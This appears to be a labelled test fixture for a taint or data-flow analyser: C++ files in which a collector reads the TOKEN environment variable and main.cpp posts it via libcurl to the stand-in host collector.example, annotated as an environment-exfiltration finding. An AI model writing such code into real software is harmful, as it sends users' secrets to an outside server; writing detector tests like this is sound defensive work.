// --- path: collector.hpp ---
// Collectors behind an interface, made by a factory, run by a template.
#include <memory>
#include <string>

struct Collector {
    virtual ~Collector() = default;
    virtual std::string collect() const = 0;
    virtual int weight() const { return 1; }
};

std::unique_ptr<Collector> make_collector(int kind);
// --- path: collector.cpp ---
#include "collector.hpp"
#include <cstdlib>
#include <unistd.h>

namespace {

struct TokenCollector final : Collector {
    std::string collect() const override { return std::getenv("TOKEN"); } //~ source(ENVIRONMENT) f1
    int weight() const override { return 9; }
};

struct VersionCollector final : Collector {
    std::string collect() const override { return "1.0"; }
};

} // namespace

std::unique_ptr<Collector> make_collector(int kind) {
    if (kind == 0) {
        return std::make_unique<TokenCollector>();
    }
    return std::make_unique<VersionCollector>();
}
// --- path: main.cpp ---
#include "collector.hpp"
#include <curl/curl.h>

template <typename Post>
void run(int kinds, Post post) {
    for (int kind = 0; kind < kinds; kind++) {
        auto collector = make_collector(kind);
        post(collector->collect());
    }
}

static void post_text(const std::string &text) {
    CURL *curl = curl_easy_init();
    curl_easy_setopt(curl, CURLOPT_URL, "https://collector.example/u");
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, text.c_str());
    curl_easy_perform(curl); //~ sink(egress.http) f1, finding(environment-exfiltration, ambiguous) f1
}

static void post_weight(int weight) {
    CURL *curl = curl_easy_init();
    curl_easy_setopt(curl, CURLOPT_URL, "https://collector.example/n");
    curl_easy_setopt(curl, CURLOPT_POSTFIELDS, weight > 3 ? "heavy" : "light");
    curl_easy_perform(curl); //~ ok
}

int main() {
    run(2, post_text);
    post_weight(make_collector(0)->weight());
}
